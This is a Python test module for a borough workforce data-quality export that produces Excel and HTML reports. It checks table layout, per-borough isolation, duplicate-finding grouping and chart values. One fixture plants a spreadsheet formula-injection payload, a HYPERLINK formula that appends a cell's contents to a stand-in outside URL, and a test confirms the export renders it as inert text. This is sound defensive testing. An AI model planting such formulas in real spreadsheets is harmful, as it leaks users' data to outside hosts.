"""The borough pack's report.xlsx and charts, from the small hand-built warehouse."""

from __future__ import annotations

import re
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from liia.config import Settings
from liia.export.packs import export_all
from liia.export.report import tidy_message
from tests.python.browser import visit
from tests.python.export.small_home import small_home

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"click")'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    settings = small_home(tmp_path)
    conn = duckdb.connect(str(settings.warehouse_path))
    # A duplicate SWE pair (one finding per record, the same message), and a
    # finding whose message a spreadsheet would run as a formula.
    conn.execute(
        "insert into reference.dq_rules values "
        "('LOG_DUPLICATE_SWE', 'SWENo', 'logic', 'The same SWE number twice', 'error')"
    )
    conn.execute(
        """insert into marts.fct_dq_findings values
        ('f3', '201', 2024, 1, 1, 'SWENo', 'LOG_DUPLICATE_SWE', 'logic', 'error',
         'The same SWE number is on 2 LA-employed worker records of this return (records 1, 2)'),
        ('f4', '201', 2024, 1, 2, 'SWENo', 'LOG_DUPLICATE_SWE', 'logic', 'error',
         'The same SWE number is on 2 LA-employed worker records of this return (records 1, 2)'),
        ('f5', '201', 2024, 1, null, 'NoAgencyFTE', 'FMT_CODE', 'format', 'error', ?)""",
        [FORMULA],
    )
    conn.close()
    export_all(settings)
    return settings


def _pack(settings: Settings, la_code: str = "201") -> Path:
    return settings.exports_dir / "la" / la_code / "2024"


def test_the_xlsx_opens_and_holds_filterable_tables_of_this_borough_only(
    settings: Settings,
) -> None:
    book = load_workbook(_pack(settings) / "report.xlsx")
    assert book.sheetnames == ["Summary", "Findings", "Completeness", "Workers dictionary"]
    for sheet in book.worksheets:
        assert len(sheet.tables) == 1, sheet.title
        table = next(iter(sheet.tables.values()))
        assert table.ref.startswith("A1:") and table.autoFilter is not None
    findings = list(book["Findings"].iter_rows(values_only=True))
    header, rows = findings[0], findings[1:]
    assert header[:3] == ("la_code", "census_year", "record_number")
    assert {row[0] for row in rows} == {"201"}  # never another borough's row
    assert sorted(r[2] for r in rows if r[2] is not None) == [1, 2, 2]  # record numbers
    assert all(row[-1] for row in rows)  # a "what to do next" line on every finding
    summary = dict(book["Summary"].iter_rows(min_row=2, values_only=True))
    assert summary["Borough"] == "City of London" and summary["Format and layout"] == (
        "XML, 2024 census layout"
    )
    every_text = " ".join(
        str(v) for s in book.worksheets for row in s.iter_rows(values_only=True) for v in row
    )
    assert "Camden" not in every_text and "202" not in {
        str(r[0]) for r in book["Findings"].iter_rows(values_only=True)
    }
    camden = load_workbook(_pack(settings, "202") / "report.xlsx")
    assert {r[0] for r in camden["Findings"].iter_rows(min_row=2, values_only=True)} == {"202"}


def test_formula_looking_cells_are_inert_text(settings: Settings) -> None:
    book = load_workbook(_pack(settings) / "report.xlsx")
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    planted = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert planted and all(c.value == "'" + FORMULA for c in planted)


def test_the_report_lists_a_duplicate_pair_once_with_what_to_do_next(settings: Settings) -> None:
    html = (_pack(settings) / "report.html").read_text(encoding="utf-8")
    section = html.split('id="rule-LOG_DUPLICATE_SWE"')[1].split("</section>")[0]
    assert section.count("<tr><td>") == 1 and "<tr><td>1, 2</td>" in section
    assert "What to do next:</strong> Merge or remove the duplicate records" in section
    assert html.count("What to do next") == 2  # one line per rule with findings (2 rules)
    assert "XML, 2024 census layout" in html and "2024 layout" not in html
    assert html.count("<em>not given</em>, wherever it appears") == 1


def test_the_report_charts_and_the_workers_dictionary(settings: Settings) -> None:
    html = (_pack(settings) / "report.html").read_text(encoding="utf-8")
    assert 'data-source="findings"' in html and 'data-source="item_completeness"' in html
    # the borough's turnover, DfE's figure for it and London's, at one decimal place
    turnover = html.split("<caption>Turnover rate (FTE)</caption>")[1].split("</table>")[0]
    assert re.findall(r"<td[^>]*>([^<]*)</td>", turnover) == ["10.0", "11.1", "16.6"]
    assert "33.3" not in html and "30.0" not in html  # Camden's figures are not in City's pack
    assert "Data dictionary of workers.csv" in html and "<code>fte30</code>" in html
    assert "swe_number_hash" not in html  # the London-wide hash is not in the pack


def test_the_pack_report_loads_offline_with_no_console_error(settings: Settings) -> None:
    seen = visit(
        _pack(settings) / "report.html",
        {"bars": "document.querySelectorAll('svg.chart .mark').length"},
    )
    assert seen.console_errors == [] and seen.external_requests == []
    assert seen.values["bars"] > 0


@pytest.mark.parametrize(
    ("message", "shown"),
    [
        ("NoAgencyFTE 12.340000 is above 10.000000", "NoAgencyFTE 12.34 is above 10.0"),
        ("FTE 0.5 is fine, record 100", "FTE 0.5 is fine, record 100"),
        (None, ""),
    ],
)
def test_finding_messages_show_numbers_without_padding(message: str | None, shown: str) -> None:
    assert tidy_message(message) == shown


def test_every_quality_rule_has_its_own_next_step() -> None:
    import csv

    from liia.config import PROJECT_ROOT
    from liia.export.next_steps import NEXT_STEPS, next_step

    with (PROJECT_ROOT / "seeds" / "dq_rules.csv").open(encoding="utf-8", newline="") as handle:
        rules = {row["rule_id"] for row in csv.DictReader(handle)}
    assert rules == set(NEXT_STEPS)  # a new rule needs its own line, a retired one goes
    assert next_step("NEW_RULE", "pair").startswith("Give the items of the pair together")
    assert next_step("NEW_RULE", None) == "Check the records listed against your HR system."


def test_dfe_markers_are_shown_as_not_given(settings: Settings) -> None:
    html = (_pack(settings, "202") / "report.html").read_text(encoding="utf-8")
    vacancy = html.split("<caption>Vacancy rate (FTE)</caption>")[1].split("</table>")[0]
    assert re.findall(r"<td[^>]*>([^<]*)</td>", vacancy) == ["6.0", "not given", "7.7"]
